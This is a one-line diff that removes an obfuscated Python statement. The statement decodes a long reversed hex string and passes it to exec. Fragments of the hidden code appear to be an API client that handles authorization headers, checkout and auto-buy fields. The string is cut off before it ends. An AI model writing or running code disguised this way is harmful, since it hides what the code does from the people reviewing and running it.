@@ -1 +1 @@
-_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "37562702e6275747562702020202a092224535f4052202c2d522e656b6f647f5469622b537e656b6f64702c24616f6c697160702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202a0d702020202a0d70202020202020202a0d5b502a3225607974722020202020202020202020202a0c2d5b502a32237574716473722020202020202020202020202a0b702a322275647c69666220202020202020202a0c24796d696c602a3224796d696c6220202020202020202a0c25676160702a32256761607220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0b702d3024616f6c697160702020202a0229727f647379686d2e6f69647361637e6162747f28367f2960716f23747e656d69716072202d3028647160702020202a022222202020202a0e29727f64737968602e6f69647361637e61627470237722756375702568647023756863647566402020202a022222202020202a0a34736964602e3d20292032302d30247e69602a34796d696c602c21302d30247e69602a35676160702c24736964602a337e656b6f64702c227473702a39756b6f5960716829727f647379686f5e6f69647361637e6162747f547567602665646a0a037562702e6275747562702020202a002020202a092224535f4052202c2d522e656b6f647f5469622b537e656b6f64702c24616f6c697160702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202a09222e2e2e2d74696f527564627f6b702a344940227564627f402b65747e65702e6162716971626d656070237574716473702b656365676e656d422668247e696270702020202a002020202a0d702020202a022e6562202a32276e616c6220202020202020202a0c24696f527564627f602a3224696f527564627f6220202020202020202a0b702d3024616f6c697160702020202a022375747164737d247e656d6971607f28367f2960716f23747e656d69716072202d3028647160702020202a022222202020202a0e2e6f69647361637e61627470247e656d697160702160266f602375747164737025686470237b63656863402020202a022222202020202a0a34736964602e3d2029227473702a34696f527564627f602c24736964602a337e656b6f64702c227473702a39756b6f596071682375747164737f547e656d6971607f547567602665646a0a09222164716462282475676e237562702e6275747562702020202a00202020202020202a056e6f6e402e627574756270202020202020202a0929223d347e65646e69602c2375627823707d65746e2e6f637a68247e69627070202020202020202a09222e24756c6c61675d25402e6162716971626d65607029616c657d656d602c616761674228247e69627070202020202020202a0a322353554343455352202d3120292223757471647372282475676e237562702669602020202a002020202a092224535f4052202c2d522e656b6f647f5469622b537e656b6f64702c24616f6c697160702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202a09222e2e2e24756c6c61675d25402e6162716971626d65607029616c657d656d4228247e696270702020202a0a0d702020202a0c29256572745d3436326f556661637c627578246c6569666f546564707972736e656f546c696572602a3224696f5e6f6964716369647e65686475716f546564707972736e656220202020202020202a0c29256572745d3436326f556661637c627578246c6569666f546564707972736e656f546c696572602a322e656b6f647f547e656d6971607f546564707972736e656220202020202020202a0c2d70202020202020202a0c25637c6166402a3223757e6f626f537168622020202020202020202020202a0c2225434e414c41424f5449414055425052202a32256079747f55636e616c6162622020202020202020202020202a0c25637c6166402a322d623d6f5261627b616f5379622020202020202020202020202a0c25637c6166402a322e616c607f597c696d61666f5379622020202020202020202020202a0b702a32216471646f5c616e6f6964796464616220202020202020202a0c222547414b4341405f59555242202a32227f666f547e656d6971607220202020202020202a0c2222202a322e6f60757f636220202020202020202a0c20302a322565666f5c61647f647220202020202020202a0c20302a32247e657f636379646f5c61647f647220202020202020202a0c25637c6166402a32247e696f607f5563757f53796220202020202020202a0c25637c6166402a3224756c6c61677f5c68797d6f53796220202020202020202a0c246f6864756d6f547e656d697160702a32246f6864756d6f547e656d6971607220202020202020202a0c247e657f6d61602a32247e657f6d616f5c61647f647220202020202020202a0c247e656d6971607f527f666f537d656479602a32237d6564796220202020202020202a0c2e6f6964716d6279666e6f636f5e656b6f64702a322e6f6964716d6279666e6f636f5e656b6f647220202020202020202a0c25637c6166402a322c616272756665627f53796220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c2475676271647f547e656d697160702a322475676271647f547e656d6971607220202020202020202a0c25637962707275647e656f5379602a3225637962707275647e656f53796220202020202020202a0c22254351484342555052202a32256079747f547e656d6971607220202020202020202a0b702d3024616f6c697160702020202a0a0929237e6f6964716d6279666e6f636f5e656b6f64702c256e6f6e482275647c6966682e696f6a6e222b32202d302e6f6964716d6279666e6f636f5e656b6f64702020202a056e6f6e4025637c6560247e656d6971607f527f666f537d656479602669602d5225646f636f5d656479622b5d503b547e656d6971607f527f666f537d656479602d302475676271647f547e656d697160702020202a0e6f6964716d6279666e6f636f5e656b6f64702e61676e65726167602e61646023202020202a0475676271647f547e656d697160702961676162656370216d61647275607024756b616070296271646025646f636f5d656479602e616b616e6577676e656d4023202020202a0a09292222202c222e6f6964716d6279666e6f636f5e656b6f6472282475676e2c69616475646f5567616b63616078246e656070716e237e6f6964716d6279666e6f636f5e656b6f6470202020202020202a092d70202020202020202a00302a32287164722020202020202020202020202a0c2222202a32256079747f547365746f6270722020202020202020202020202a0c2920302c22256369627072282475676e2e6f6964707f602a3225636962707f5d656479622020202020202020202020202a0c256d616e6f5d656479602a32256d616e6f5d656479622020202020202020202020202a0c25646f636f5d656479602a3225646f636f5d656479622020202020202020202020202a0b78246e656070716e247e656d6971607f527f666f537d65647960202020202020202a0a092820796274737e222d792727202c27256d616e67282475676e2e6f6964707f6b702d792727202c27256d616e67282475676e292d7b702c27247e61696271667f5c69616475646f5567616b63616077282475676e2c69616475646f5567616b6361607b7226602d30256d616e6f5d65647960202020202020202a092225646f636f5e6f6964707f6f5567616b63616072282475676e2e6f6964707f602d3025646f636f5d65647960202020202020202a092d7b702c222e6f6964707f6f5567616b63616072282475676e2c69616475646f5567616b636160702d302e6f6964707f60202020202020202a0a0d776b60702a322567616b63616072202c22237c6961647564602567616b63616070247567602f647024656c69616642202a32227f627275622b702e62757475627020202020202020202020202a09222d7927256d616e6f5e6f6964707f67282475676e276b607b702d202d7927256d616e6f597c696d616667282475676e276b607b702a34756b6160702b65747e65702c6961647564602c69626d61676e656d602c61676167422668247e6962707020202020202020202020202a0a3c69616475646f5567616b63616070247f6e60266960202020202020202a0a0920202020202020202a092225637962707275647e656f537962282475676e276b607020202020202020202020202a0c2922227564627f62282475676e276b607020202020202020202020202a056d616e6f547e616962716670227f6025646f636f547e61696271667024727f607075735023202c2922256d616e6f547e616962716672282475676e276b6070227f60292225646f636f547e616962716672282475676e276b607020202020202020202020202a0c292225646f636f597c696d616662282475676e276b607020202020202020202020202a0c237e656b6f647020202020202020202020202a0c29756b6f5960716020202020202020202020202a08237c69616475646f5567616b6361607f547567602d302c69616475646f5567616b63616070202020202020202a04696c616670276e6169702e6f6964716d6279666e6f636f5e656b6f64702e61646025646f636f5e6f6964707f6f5567616b636160702e616b64716071646e656d602b65747e657024756b6160702c6961647564602c69626d61402320202020202020202a0a337567616b636160702e6960276b6070227f66602020202a0a0d5b502d30237e6f6964716d6279666e6f636f5e656b6f64702020202a0d5b502d30247e656d6971607f527f666f537d656479602020202a09222e2e2e256c646e6572602d616c61646024756b616070207169647563702b65747e65702c6961647564602c69626d61676e656d4228247e696270702020202a002020202a056e6f6e402e627574756270202020202020202a09222e276e6f637f6b6028656c6f62602b616469647024756b6160702271647661644228247e69627070202020202020202a0a337567616b63616070247f6e602669602020202a0e616961657375697e656070257c627560702e696b676e657d602c2963716b696c607160257b616c69627560702e616b62716371646275626029637d6573716028616c61646160296e694023202020202a0475676271647f547e656d697160702961676162656370216d6164727560702d65647960296271646025646f636f5e6f6964707f6f5567616b636160702e616b616e6577676e656d4023202020202a002020202a022e6f6964707f6d23746f6864756d6d247e656d6971607f28367f2960716f23747e656d69716072202d3028647160702020202a022222202020202a0e2c425550247e656d6971607021602374756760297c64736562796460247572602c237375636f627070247e656d656c64747563702c6c657660256864702867657f627864702f676024772e63756f646024716864702020202a0e6f69637275667024656966696c607d696370216023796023796864502e24756c6c61677d25602e6160276e69637570256371686362757070256c646e6572602160237564716964796e69402020202a022222202020202a0a34736964602e3d20292a05637c6166402d302c6f6f62602a35637962707275647e656f5379602020202a022951405545405f484352202c2e276e256023202c227473702a346f6864756d6f547e656d697160702020202a0c247e69602a347e657f6d61602020202a0c2473796c602a337567616b636160702020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a082567627168636f54756c6c616775602665646a0a016471646f537c69616475646f5567616b636160702e6275747562702020202a002020202a056e6f6e402e627574756270202020202020202a09222e24756b6160702c6961647564602c69626d61676e656d602c616761674228247e69627070202020202020202a0a316471646f537c69616475646f5567616b63616070247f6e602669602020202a09247e656c69637d347e656c6963702c25646f636f5e6f6964707f602c237e656b6f64702c29756b6f596071682567616b6361607f547567602d30216471646f537c69616475646f5567616b636160702020202a00202020202020202a056e6f6e402e627574756270202020202020202a09222e29616573756370276e61697024756b6160702963707f602e616b657d656e656d602c616761674228247e69627070202020202020202a0a356e6f6e4023796025646f636f5e6f6964707f602669602020202a0a0b6165627260202020202020202020202020202020202020202a092225646f636f5e6f6964707f6f5567616b63616072282475676e24707f602d3025646f636f5e6f6964707f60202020202020202020202020202020202020202a0a327564627f6f5e6f6964707f602d3d302922227564627f62282475676e24707f602669602020202020202020202020202020202a0a337e6f6964707f6f5567616b636160702e696024707f60227f666020202020202020202020202a092d5b502c22237e6f6964707f6f5567616b63616072282475676e247e61696271667f54656473656c6563702d30237e6f6964707f6f5567616b6361607020202020202020202020202a047e6169627166702d30247e61696271667f54656473656c65637020202020202020202020202a0a35646f636f547e6169627166702d3d302d5225646f636f547e61696271667f5567616b636160722b547e616962716670266960202020202020202a0a33747e61696271667f5567616b636160702e6960247e616962716670227f66602020202a056e6f6e402d3025646f636f5e6f6964707f602020202a0d5223747e61696271667f5567616b636160722b516471646f597c696d6166602d3023747e61696271667f5567616b636160702020202a002020202a0a056e6f6e402e62757475627020202020202020202020202a0922272d746e69666f5f647f556d616e6f547e61696271667b77202a316d616e602b65747e657025646f636f547e6169627166702e616b657d656e656d602c61676167422668247e6962707020202020202020202020202a0a35637c6560202020202020202a046e657f666f55646f636f547e6169627166702d3025646f636f547e61696271667020202020202020202020202a0a346e657f666f55646f636f547e616962716670266960202020202020202a0b61656272602020202020202020202020202020202a09222d746e657f666f55646f636f547e61696271667b702a35646f636f547e6169627166702e616b657d65647964422668247e696270702020202023202020202020202020202020202020202a0a347e656c696370247f6e6026696023202020202020202020202020202020202a092225646f636f547e61696271667f5567616b63616072282475676e247e6169627166702d30246e657f666f55646f636f547e6169627166702020202020202020202020202020202a0a346e69666f5f647f556d616e6f547e6169627166702d3d302922256d616e62282475676e247e61696271667026696020202020202020202020202a0a392d5b502c2223747e61696271667f5567616b63616072282475676e216471646f597c696d6166602e6960247e616962716670227f6660202020202020202a056e6f6e402d30246e657f666f55646f636f547e616962716670202020202020202a09222e2e2e272d746e69666f5f647f556d616e6f547e61696271667b77202a316d616e602b65747e657025646f636f547e616962716670296271636e656d422668247e69627070202020202320202020202020202a0a347e656c696370247f6e602669602320202020202020202a056d616e6f547e6169627166702963796275626025646f636f547e6169627166702e616b69637d65737140232025646f636f547e6169627166702d30246e69666f5f647f556d616e6f547e616962716670202020202020202a0a346965757f54696c61667f537960247f6e602669602020202a05646f636f547e6169627166702e6960272d2720246e61602633302d3d302925646f636f547e6169627166782e656c60246e616029227473702c25646f636f547e61696271667825636e6164737e696379602d30246965757f54696c61667f5379602020202a056d616e6f547e6169627166702e616b627163716462756260296271636021626f63602c24494555502e616b6572602571647160216461602b616469647025646f636f547e616962716670216b696a4023202020202a0a0925637c6166402c2225637962707275647e656f537962282475676e292d7b702c22297c696d61666f5567616b63616072282475676e216471646f597c696d6166602d3025637962707275647e656f537960202020202020202a0a356e6f6e4023796025637962707275647e656f5379602669602020202a016471646f597c696d61666029627164602c69626d616021626f63602c2e616b696275626964602b616469647025637962707275647e656f537960216b696a4023202020202a0a056e6f6e402e627574756270202020202020202a09222e2d75646f636f597c696d61666b702b65747e6570297c696d61666021647164602c69626d61676e656d602c61676167422668247e69627070202020202020202a0a316471646f597c696d616660247f6e602669602020202a09247e656c69637d347e656c6963702c256079747f5e6f6964716277696d602c25637962707275647e656f5379602c25646f636f597c696d6166602c237e656b6f64702c29756b6f5960716822367f597c696d61666f547567602d30216471646f597c696d6166602020202a0a356e6f6e402c7024736964602e3d20292a05637c6166402d302c6f6f62602a347e656c6963702020202a0c256e6f6e402d30256e6f6e402c70227473702a356079747f5e6f6964716277696d602020202a0c256e6f6e402d30256e6f6e402c702c6f6f62602a35637962707275647e656f5379602020202a0c256e6f6e402d30256e6f6e402c70247e69602a327564627f6f5e6f6964707f602020202a0c227473702a35646f636f547e6169627166702020202a0c227473702a35646f636f597c696d6166602020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a08237c69616475646f5567616b6361607f547567602665646a0a0d5221647164622b537562702e6275747562702020202a00202020202020202a056e6f6e402e627574756270202020202020202a092922227f627275602e677f6e6b6e6552202c22227f62727562282475676e237562702c222a3567616b63616070276e696474756760227f6272754228247e69627070202020202020202a0929223d347e65646e69602c2375627823707d65746e2e6f637a68247e69627070202020202020202a0a337562702e6960247f6e60222164716462202669602020202a002020202a092224535f4052202c2d522e656b6f647f5469622b537e656b6f64702c24616f6c6971607f577162702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202a002020202a0d702020202a022e6562202a32276e616c6220202020202020202a0c25637962707275647e656f5379602a3225637962707275647e656f53796220202020202020202a0c2d522e656b6f647f537375636361622b537e656b6f64702a322e656b6f647f5373756363616220202020202020202a0b702d3024616f6c6971607f577162702020202a002020202a022e69676f6c6f286475716f28367f29607162202d3028647160702020202a0a392a05637c6166402d302c6f6f62602a35637962707275647e656f5379602020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a082f666e696f5e69676f6c602665646a0a09222e2e2e25657e69647e6f63602f64702275647e6540237375627052282475707e69602020202a002020202a09222d79223d347e65646e69602c247c657375627f55637168636275707823707d65746e2e6f637a6b7e6c5a347c65737562702563716863627570522668247e696270702020202a002020202a09227f666f547e656d697160702c2e6769637f5f647f5374702c247e656d6971607f5e656b6f64702c2d522e656b6f647f5469622b537e656b6f64702c2d522e656b6f647f537375636361622b537e656b6f64702c24616f6c6971607f547e656d656c64747563702c29756b6f59607168247375657175627f547e656d6971607f546e6563702d30247c657375627f5563716863627570702020202a09222d79223d347e65646e69602c24616f6c6971607f547e656d656c647475637823707d65746e2e6f637a6b7e6c5a34616f6c69716070247e656d656c64747563722668247e6962707023202020202a09222e2e2e256371686362757070276e69637375636f62705228247e696270702020202a002020202a0d702020202a0d50202020202020202a0d7020202020202020202020202a00302a3228716472202020202020202020202020202020202a0c256d616e6f5d656479602a32256d616e6f5d65647962202020202020202020202020202020202a0c2563696270702a3225636962707f5d65647962202020202020202020202020202020202a0c2222202a32256079747f547365746f627072202020202020202020202020202020202a0c2475676271647f547e656d697160702a3225646f636f5d65647962202020202020202020202020202020202a0b7020202020202020202020202a0b502a32237d6564796220202020202020202a0c25637c6166402a322975726f6475716f576e6963757f53796220202020202020202a0c247e696f547e657f6d61602a32247e657f6d616f5c61647f647220202020202020202a0c2d7020202020202020202020202a00302a322f6d6f62707f547e657f63637964622020202020202020202020202a0c25637c6166402a3223757e6f626f537168622020202020202020202020202a0c2225434e414c41424f5449414055425052202a32256079747f55636e616c6162622020202020202020202020202a0c25637c6166402a322d623d6f5261627b616f5379622020202020202020202020202a0c20302a32276e696272757365627f547e657f63637964622020202020202020202020202a0c25637c6166402a322e616c607f5863647967737f5379622020202020202020202020202a0c2d5b502a32237c69616475646f5f626d6f63622020202020202020202020202a0c25637c6166402a322e616c607f597c696d61666f5379622020202020202020202020202a0c2222202a3227616478637163622020202020202020202020202a0c20302a3223757e6f626f51647f6571722020202020202020202020202a0c22254e4f4e42202a32256079747f547966656e65626220232020202020202020202020202a0c20302a32287164722020202020202020202020202a0c2222202a3224696f5e6f696373796d622020202020202020202020202a0c25637c6166402a3224796d696c6f546e6560737f5379622020202020202020202020202a0c20302a32247e657f6d616f54796d696c6f546e656073722020202020202020202020202a0c2225637c616662202a3224696f50757f62776f5d623d6f5261627b61622020202020202020202020202a0c2222202a32256079747f5e6f6964716277696d622020202020202020202020202a0c25637c6166402a32297271627f607d65647f54796d696c6f546e6560737f5379622020202020202020202020202a0c2563696270702a3225636962707f5c616e696769627f622020202020202020202020202a0b702a32216471646f5c616e6f6964796464616220202020202020202a0c29256572745d3436326f556661637c627578246c6569666f546564707972736e656f546c696572602a3224696f5e6f6964716369647e65686475716f546564707972736e656220202020202020202a0c2222202a322275626d657e6f54756c6c61677220202020202020202a0c2d522e656b6f647f537375636361622b537e656b6f64702a322e656b6f647f5373756363616220202020202020202a0c2e6f6964716d6279666e6f636f5e656b6f64702a322e6f6964716d6279666e6f636f5e656b6f647220202020202020202a0c2222202a322e656b6f647220202020202020202a0c29256572745d3436326f556661637c627578246c6569666f546564707972736e656f546c696572602a322e656b6f647f547e656d6971607f546564707972736e656220202020202020202a0c2222202a3224696f5e6f6964716369647e65686475716220202020202020202a0c2222202a322e656b6f647f55676164737220202020202020202a0c2222202a322275626d657e6f5075707f647220202020202020202a0c25637c6166402a322c6c656370757f586479677220202020202020202a0c227f666f547e656d697160702a32227f666f547e656d6971607220202020202020202a0c2222202a322e6f60757f636220202020202020202a0c2222202a3225646f636f556571796e657f5c616272756665627220202020202020202a0c2222202a322371696c616f547e656271607f5261627b616220202020202020202a0c2d5b502a32237275626d656d6f5261627b616220202020202020202a0c276e696471627f527567676962747f5e6163602a32276e696471627f527567676962747f5e61636220202020202020202a0c20302a3224656e6961676f53747e696f607220202020202020202a0c292928256d69647e256d696478247e69602a32207d616473756d69647220202020202020202a0c2225434e414c414242202a32246f6864756d6f547e656d6971607220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c25637c6166402a32247e696f607f5563757f53796220202020202020202a0c276e69647475637f546c6f6863756278647f5975726f647571602a32276e69647475637f546c6f6863756278647f5975726f6475716220202020202020202a0c2222202a32247e6962707275676e69666220202020202020202a0c20302a322565666f5c61647f647220202020202020202a0c2d5b502a32237275626d656d6220202020202020202a0c2222202a3224696f5f6d6f62707f54756c6c6167756220202020202020202a0c2222202a322e69607220202020202020202a0c25637c6166402a3224756c6c61677f5c68797d6f53796220202020202020202a0c2222202a32256079747f547e656d6971607f53636220202020202020202a0c25646f636f5975726f6475716f546564716679647361602a3225646f636f5975726f6475716f5465647166796473616220202020202020202a0c247e656d6971607f5e656b6f64702a32247e656d6971607f5e656b6f647220202020202020202a0c2222202a322e656b6f647f547e656d6971607220202020202020202a0c25637962707275647e656f5379602a3225637962707275647e656f53796220202020202020202a0c20302a32247e657f636379646f5c61647f647220202020202020202a0b702d3024616f6c6971607f547e656d656c64747563702020202a0473756571756270247e656d656c647475635023202020202a002020202a022547414b4341405f59555242202d30227f666f547e656d69716070202020202020202a0a3222202d3d30227f666f547e656d697160702669602020202a0974707d6560237960237c6961647564602567616b636160702d6f627660227f666f547e656d697160702568647023756d6964756d6f63702c25647962777275667f4023202020202a002020202a0d52207d616473756d6964722b5d5221647164622b5375627f547e656d697160702d302e6769637f5f647f5374702020202a0d52247e656d6971607f5e656b6f64722b5d5221647164622b5375627f547e656d697160702d30247e656d6971607f5e656b6f64702020202a002020202a056e6f6e402e627574756270202020202020202a09222e2e2e25657e69647e6f63602f64702275647e6540237375627052282475707e6960202020202020202a0929223d347e65646e69602c2375627f547e656d6971607823707d65746e2e6f637a68247e69627070202020202020202a0922247e656d697160702564716964796e69602f647024656c6961664228247e69627070202020202020202a0a322353554343455352202d3120292223757471647372282475676e2375627f547e656d697160702669602020202a092224535f4052202c2d522e656b6f647f5469622b537e656b6f64702c24616f6c6971607f547e656d697160702c286471607f547e656d697160702c29756b6f59607168247375657175627f5960716f546e6563702d302375627f547e656d697160702020202a09222e2e2e247e656d69716070276e6964716964796e694228247e696270702020202a002020202a0d702020202a0e6f6964716d6279666e6f636f5e656b6f64702a322e6f6964716d6279666e6f636f5e656b6f647220202020202020202a0c25637c6166402a322c616272756665627f53796220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c2475676271647f547e656d697160702a322475676271647f547e656d6971607220202020202020202a0c25637962707275647e656f5379602a3225637962707275647e656f53796220202020202020202a0c22254351484342555052202a32256079747f547e656d6971607220202020202020202a0b702d3024616f6c6971607f547e656d697160702020202a022e6f6964707f6d23746f6864756d6d247e656d6971607f28367f2960716f23747e656d69716072202d30286471607f547e656d697160702020202a002020202a056e6f6e402e62757475627020202020202020202020202a09222e2563696270702c616e696769627f60276e696375702c2475707e696025647962777275667f6024696c61667e694228247e6962707020202020202020202020202a0a327f62727545657c61665024707563687560202020202020202a092274737f547e657f6d6168247e69602d30247e696f547e657f6d616020202020202020202020202a0a39727470202020202020202a0a3222202d31202274737f547e657f6d61602669602020202a002020202a0925637962707275647e656f5379602c25646f636f5e6f6964707f6f5567616b636160702c237e656b6f64702c29756b6f59607168256761607f547075636275647e69602020202a05637f60727570702471686770227f66602b4449402c247075636275647e694023202020202a002020202a0563696270702d30247e696f547e657f6d61602020202a0922202a347e657f6d6160247c65716665646025637570262025627f6e6769602f64702275647e65602373756270702c25647962777275667f602f64702465656e60257f697026696025657c6166702275647e654e6c5e2d75636962707b70237960247e657f6d61602c61647f645226682475707e69602d302274737f547e657f6d61602020202a0d522563696270722b5d522e6f6964707f6f5567616b636160722b516471646f537c69616475646f5567616b636160702d302563696270702020202a002020202a0d52227f666f547e656d697160722b5d52297c696d61666f5567616b636160722b516471646f537c69616475646f5567616b636160702d30227f666f547e656d697160702020202a0d52276e696471627f527567676962747f5e6163622b5d522e6f6964707f6f5567616b636160722b516471646f537c69616475646f5567616b636160702d30276e696471627f527567676962747f5e6163602020202a0d52276e69647475637f546c6f6863756278647f5975726f647571622b5d522e6f6964707f6f5567616b636160722b516471646f537c69616475646f5567616b636160702d30276e69647475637f546c6f6863756278647f5975726f647571602020202a0d5225646f636f5975726f6475716f546564716679647361622b5d522e6f6964707f6f5567616b636160722b516471646f537c69616475646f5567616b636160702d3025646f636f5975726f6475716f546564716679647361602020202a002020202a092820796274737e222d756d616e6f5e6f6964707f6b702d756d616e6f547e61696271667b7226602d30256d616e6f5d656479602020202a092222202c22256d616e62282475676e2d522e6f6964707f6f5567616b636160722b516471646f537c69616475646f5567616b636160702d30256d616e6f5e6f6964707f602020202a092222202c22256d616e62282475676e2d52247e61696271667f5c69616475646f5567616b636160722b516471646f537c69616475646f5567616b636160702d30256d616e6f547e6169627166702020202a002020202a0d5225646f636f5e6f6964707f6f5567616b636160722b5d522e6f6964707f6f5567616b636160722b516471646f537c69616475646f5567616b636160702d302475676271647f547e656d697160702020202a0d522e6f6964716d6279666e6f636f5e656b6f64722b516471646f537c69616475646f5567616b636160702d302e6f6964716d6279666e6f636f5e656b6f64702020202a002020202a056e6f6e402e627574756270202020202020202a09222e256371686362757070227f6660237c6961647564602567616b63616070247567602f647024656c6961664228247e69627070202020202020202a0a316471646f537c69616475646f5567616b63616070247f6e602669602020202a0925646f636f5e6f6964707f6f5567616b636160702c237e656b6f64702c29756b6f596071682567616b6361607f547567602d30216471646f537c69616475646f5567616b636160702020202a0a34736964602e3d2029202020202a05637c6166402d302c6f6f62602a35637962707275647e656f5379602020202a0c2274737a35646f636f5e6f6964707f6f5567616b636160702020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a082567616b6361607f5563716863627570702665646a0a047875647e20737562702e627574756270202020202020202a0925602c222d52727560247079727365646b5228247e69627070202020202020202a0a35602371602e6f6964707563687540247075636875602020202a09746f626f546564707972736564602e627574756270202020202020202a0929247875647e20737562782374616f6c6e2e6f637a602c29756b6f5960716821647164687f54707972736564602d3029746f626f54656470797273656460202020202020202a0a397274702020202a002020202a0920333d34757f656d6964702c2929746f626823707d65746e2e6f637a6d31647164602c237275646165686d33727564616568602c2c62757824737f607e2374737565717562702d3020737562702020202a022d786471607b7f2d7c42555f5940514f554351424b7226602d302c6275702020202a002020202a0d702020202a0c22203e273e2832202a322070716d2e6f69637275667d287220202020202020202a0c2924716f5465647375657175627f5878207d616473756d69647f556b696c6f5166716a602a3224716d247375657175627d287220202020202020202a0c29292824346965757e2469657578227473702a3224696d247375657175627d287220202020202020202a0c2769637f58702a3225627574716e6769637d287220202020202020202a0c292365637f556d69647f57696378227473702a32256d69647d25627574716e6769637d287220202020202020202a0c22233672202a3226786d287220202020202020202a0c222d7e656b6f647f54696b702275627165624226602a322e6f6964716a79627f686475716220202020202020202a0c29554b4f594051402a3229756b6d2960716d287220202020202020202a0c2145502a32247e6567616d227563757220202020202020202a0c22283d2664757d34756372716863602b3e6f637a6f2e6f69647163696c60707162202a32256079747d247e65647e6f636220202020202020202a0c292222202c222f2f2a337074747862282563616c6075627e2c42555f5940514f55435142402a3224737f686220202020202020202a0b702d3023727564616568602020202a002020202a09202020202a027f666f547e656d69716070202020202020202a0c2225434e414c41424220202020202020202a0c247e656d6971607f5e656b6f6470202020202020202a0c25646f636f5567616b63616070202020202020202a0c2e6769637f5f647f537470202020202020202a0c2e656b6f647f53737563636160202020202020202a0c29756b6f59607160202020202020202a08247e656d6971607f55627574716e6769637f587f547567602d302769637f58702020202a002020202a0d5229746f626f546564707972736e65622b54616f6c6971607f546564707972736e65602d3029746f62602020202a002020202a0e6769637f5f647f5374702d302d52207d616473756d6964722b547369646f54616f6c697160702020202a0928256e6f6a756d696473716e292364757e256e6f6a756d69647d3a74702c2365637f556d69647f57696378207d616473756d69647d6f62766e256d696475647164602d3024716f5465647375657175627f58702020202a0920303031302f2f20256d69647878202d302365637f556d69647f576963702020202a092d52256d696478722b5d5229746f626f546564707972736e65622b54616f6c6971607f546564707972736e6568247e69602d30256d696478702020202a002020202a09202020202a047369646f54616f6c6971607d34616f6c69716070202020202020202a0c2e656b6f647f54696d3e656b6f647f546960202020202020202a0c286471607d3864716070202020202020202a0c2224535f40522d346f6864756d60202020202020202a0c29756b6f5960716d39756b6f59607160202020202020202a0821647164687f5e67696374707972736e65602d3024616f6c6971607f546564707972736e65602020202a002020202a0d5225646f636f5d656479622b5d503b5d52237d656479622b547369646f54616f6c697160702d3025646f636f5567616b636160702020202a0225636e616c61626d247e656d656c647475637f28367f2960716f23747e656d69716072202d3028647160702020202a0a392a022547414b4341405f59555242202d30227473702a327f666f547e656d697160702020202a0c247e69602a3e6769637f5f647f5374702020202a0c227473702a347e656d6971607f5e656b6f64702020202a0c227473702a3e656b6f647f5469602020202a0c227473702a3e656b6f647f537375636361602020202a0c24736964602a347369646f54616f6c697160702020202a0c227473702a39756b6f596071602020202a08247375657175627f547e656d6971607f546e6563702665646a0a0922227f62727560247075636275647e694228247e69627070202020202020202a0a35637c65602020202a09222d7d57237574716473772b5375627b702a33757471647370247075636275647e69422668247e69627070202020202020202a0a337562702e69602223757471647372202669602020202a002020202a092224535f4052202c2d522e656b6f647f5469622b537e656b6f64702c24616f6c6971607f577162702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202a09222e2e2e2567616070247075636275647e6960276e6968636475664228247e696270702020202a002020202a0d702020202a05646f636f5e6f6964707f602a3225646f636f5e6f6964707f6f5567616b6361607220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c25637962707275647e656f5379602a3225637962707275647e656f53796220202020202020202a0b702d3024616f6c6971607f577162702020202a002020202a02256761607d247075636275647e696f2974796c6964757f28367f2960716f2363796d62202d3028647160702020202a0a392a05637c6166402d302c6f6f62602a35637962707275647e656f5379602020202a0c227473702a35646f636f5e6f6964707f602020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a08256761607f547075636275647e69602665646a0a0d5221647164622b537562702e6275747562702020202a00202020202020202a056e6f6e402e627574756270202020202020202a092922227f627275602e677f6e6b6e6552202c22227f62727562282475676e237562702c222a337e6f64646160276e696474756760227f6272754228247e69627070202020202020202a0a337562702e6960247f6e60222164716462202669602020202a002020202a092224535f4052202c2d522e656b6f647f5469622b537e656b6f64702c24616f6c6971607f577162702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202a09222e2e2e237e6f64646160276e6968636475664228247e696270702020202a002020202a0d702020202a05646f636f5e6f6964707f6f5567616b636160702a3225646f636f5e6f6964707f6f5567616b6361607220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0b702d3024616f6c6971607f577162702020202a002020202a02287f626d297b6e69607d237e6f6464616f237e6f6964707f6f2375627f64737d2c687f28367f29607162202d3028647160702020202a0a34736964602e3d2029227473702a35646f636f5e6f6964707f6f5567616b636160702c24736964602a337e656b6f64702c227473702a39756b6f59607168237e6f6464616f547567602665646a0a0d5221647164622b537562702e6275747562702020202a00202020202020202a056e6f6e402e627574756270202020202020202a092922227f627275602e677f6e6b6e6552202c22227f62727562282475676e237562702c222a3567616b63616070276e696474756760227f6272754228247e69627070202020202020202a0929223d347e65646e69602c2375627823707d65746e2e6f637a68247e69627070202020202020202a0a337562702e6960247f6e60222164716462202669602020202a002020202a092224535f4052202c2d522e656b6f647f5469622b537e656b6f64702c24616f6c6971607f577162702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202a09222d79223d347e65646e69602c24616f6c6971607f5771627823707d65746e2e6f637a6b702a34616f6c697160522668247e6962707023202020202a09222e2e2e2567616b63616070276e6968636475664228247e69627070202020202020202a0a347e656c696370247f6e602669602020202a002020202a0d702020202a05646f636f547e61696271667f5567616b636160702a3225646f636f547e61696271667f5567616b6361607220202020202020202a0c25637c6166402a322074607f5c6c656370757f53796220202020202020202a0c25646f636f5e6f6964707f6f5567616b636160702a3225646f636f5e6f6964707f6f5567616b6361607220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c25637c6166402a322e6f6964716277696d6f53796220202020202020202a0c25637c6166402a32256c626165627168637f53796220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0c25637c6166402a322975726f6475716f5379622020202020202020